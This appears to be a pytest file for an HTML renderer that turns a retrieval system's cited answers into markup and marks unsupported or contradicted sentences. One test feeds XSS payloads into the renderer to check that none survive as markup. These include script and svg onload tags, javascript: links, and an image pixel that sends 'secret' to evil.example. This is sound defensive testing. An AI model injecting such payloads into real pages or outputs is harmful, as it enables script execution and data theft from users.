from typing import Any

import pytest
from starlette.testclient import TestClient

from api.rendering import to_html
from retrieval.types import Answer, Citation, Outcome, Statement, Usage


def _answer(
    text: str, *statements: Statement, notes: int = 2, model: str = "llama", abstained: bool = False
) -> Answer:
    citations = tuple(
        Citation(number, "d", "v", "u", "t", 0, 1, "q", None, True, 1.0)
        for number in range(1, notes + 1)
    )
    return Answer(
        query="q",
        text=text,
        citations=() if abstained else citations,
        closest=(),
        statements=statements,
        hits=(),
        abstained=abstained,
        confidence=0.9,
        model=model,
        usage=Usage(1, 1),
        timings={},
    )


def test_marks_lead_to_their_notes_and_others_stay_text() -> None:
    shown = to_html(_answer("Tea is at four. [1][2] So they say. [7]"))
    assert shown.count('<a class="mark" href="#note-') == 2
    assert "So they say. [7]" in shown


def test_markdown_is_rendered() -> None:
    shown = to_html(_answer("# Tea\n\n- **four** [1]\n- `code [1]`\n\n| a |\n|---|\n| 1 |"))
    for piece in (
        "<h4>Tea</h4>",
        "<li><strong>four</strong><sup>",
        "<code>code [1]</code>",
        "<td>",
    ):
        assert piece in shown


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![pixel](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<https://evil.example>",
        "[a]: https://evil.example\n\n[a]",
        "<svg/onload=alert(1)>",
        "```html\n<iframe src=//evil.example></iframe>\n```",
        '<a href="#note-1" onclick="alert(1)">1</a>',
        "&lt;script&gt;",
    ],
)
@pytest.mark.parametrize("model", ["llama", "extractive"])
def test_nothing_of_a_model_or_a_document_becomes_markup(attack: str, model: str) -> None:
    shown = to_html(_answer(f"{attack} [1]", model=model))
    for tag in ("<script", "<img", "<svg", "<iframe", "<a href", "<a onclick"):
        assert tag not in shown.lower()
    assert shown.count("<a ") == shown.count('<a class="mark" href="#note-1">')


def test_a_sentence_without_support_is_told_apart_through_its_markup() -> None:
    shown = to_html(
        _answer(
            "It is **12 %**. [1] The *rest is* 40 %.\n\n- All `of it` is blue.",
            Statement("It is **12 %**.", Outcome.VERIFIED, (1,)),
            Statement("The *rest is* 40 %.", Outcome.UNSUPPORTED, ()),
            Statement("- All `of it` is blue.", Outcome.CONTRADICTED, ()),
        )
    )
    assert '<em><span class="unsupported">rest is</span></em>' in shown
    assert '<code><span class="contradicted">of it</span></code>' in shown
    assert "<strong>12 %</strong>." in shown


def test_the_second_of_two_equal_sentences_can_be_the_doubtful_one() -> None:
    shown = to_html(
        _answer(
            "It rains. [1] It rains.",
            Statement("It rains.", Outcome.VERIFIED, (1,)),
            Statement("It rains.", Outcome.UNSUPPORTED, ()),
        )
    )
    assert shown.startswith("<p>It rains.<sup>")
    assert shown.rstrip().endswith('<span class="unsupported">It rains.</span></p>')


def test_quotes_and_abstentions_are_text_whatever_they_look_like() -> None:
    quoted = to_html(_answer("# *not* a heading [1]\n第二句。 [2]", model="extractive"))
    assert quoted.startswith("<p># *not* a heading<sup>")
    assert "<p>第二句。<sup>" in quoted
    abstained = to_html(_answer("I found *nothing* [1].", abstained=True))
    assert abstained == "<p>I found *nothing* [1].</p>"


def test_html_is_given_where_it_is_asked_for(shared: TestClient) -> None:
    asked: dict[str, Any] = {"question": "How long does the warranty of the Kestrel last?"}
    assert shared.post("/kb/kb/ask", json=asked).json()["html"] is None
    html = shared.post("/kb/kb/ask", json={**asked, "html": True}).json()["html"]
    assert '<a class="mark" href="#note-1">1</a>' in html


@pytest.mark.parametrize(
    ("text", "said", "shown"),
    [
        (
            "**Nuns paint. It flies.** No.",
            "It flies.**",
            '<span class="unsupported">It flies.</span>',
        ),
        ("It \\*flies\\*. No.", "It \\*flies\\*.", '>It </span><span class="unsupported">*<'),
        ("No. It &lt;b&gt; is.", "It &lt;b&gt; is.", '<span class="unsupported">&lt;</span>'),
        ("***It*** ~~is~~.", "***It*** ~~is~~.", '<s><span class="unsupported">is</span></s>'),
        (
            "See. [It](http://x) is.",
            "[It](http://x) is.",
            '"unsupported">[It](http://x) is.</span>',
        ),
        ("See. ![It](x) is.", "![It](x) is.", '<span class="unsupported">![It](x) is.</span>'),
        ("# It\n\nNo.", "# It", '<h4><span class="unsupported">It</span></h4>'),
        ("1. 1 is.", "1. 1 is.", '<li><span class="unsupported">1 is.</span></li>'),
        ("It\nis", "It\nis", '>It</span>\n<span class="unsupported">is</span>'),
        ("|a|b|\n|-|-|\n|It|is|", "|It|is|", '<td><span class="unsupported">is</span></td>'),
        (
            "```py\nx\nz\n```",
            "z",
            '<pre><code>x\n<span class="unsupported">z</span>\n</code></pre>',
        ),
        ("a\n\n    x < y", "x < y", '<code><span class="unsupported">x &lt; y\n</span>'),
        ("`It is. No.`", "`It is.", '<code><span class="unsupported">It is.</span> No.</code>'),
        ("It is.\r\n\r\nNo.", "No.", '<span class="unsupported">No.</span>'),
    ],
)
def test_a_doubtful_sentence_is_marked_whatever_it_is_written_with(
    text: str, said: str, shown: str
) -> None:
    before = text[: text.index(said)].strip()
    verified = [Statement(before, Outcome.VERIFIED, ())] if before else []
    doubtful = Statement(said, Outcome.UNSUPPORTED, ())
    assert shown in to_html(_answer(text, *verified, doubtful))


@pytest.mark.parametrize(
    ("text", "said", "shown"),
    [
        ("24.", "24.", '<li class="contradicted"></li>'),
        ("``` It is\nx\n```", "``` It is", '<pre class="contradicted"><code>x\n</code></pre>'),
        (">" * 30 + " It is.", ">" * 30 + " It is.", '<blockquote class="contradicted">'),
        ("***\n" + ">" * 30 + "It", "***\n" + ">" * 30 + "It", '<blockquote class="contradicted">'),
        ("|So|\n|-|\nA. B | So it is.", "So it is.", '<tr class="contradicted">'),
    ],
)
def test_of_a_doubtful_sentence_that_is_not_seen_the_block_is_marked(
    text: str, said: str, shown: str
) -> None:
    assert shown in to_html(_answer(text, Statement(said, Outcome.CONTRADICTED, ())))


def test_a_block_that_is_not_understood_is_doubtful_as_a_whole(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("api.places._places", lambda *_: [])
    said = Statement("It is.", Outcome.UNSUPPORTED, ()), Statement("No.", Outcome.CONTRADICTED, ())
    assert '<span class="contradicted">It is. No.</span>' in to_html(_answer("It is. No.", *said))


def test_the_number_in_a_mark_is_not_taken_for_the_next_sentence() -> None:
    said = Statement("So.", Outcome.VERIFIED, (1,)), Statement("1", Outcome.UNSUPPORTED, ())
    shown = to_html(_answer("So. [1]\n\n1", *said))
    assert '#note-1">1</a>' in shown and '<span class="unsupported">1</span>' in shown


def test_the_marks_of_a_table_stand_in_its_last_cells() -> None:
    shown = to_html(_answer("| a | b | [1]\n|---|---|\n| c | d | [1][2]\n| e | f | "))
    assert '<th>b<sup><a class="mark" href="#note-1">1</a></sup></th>' in shown
    assert '<td>d<sup><a class="mark" href="#note-1">1</a></sup><sup><a ' in shown
    assert "<td>f</td>" in shown
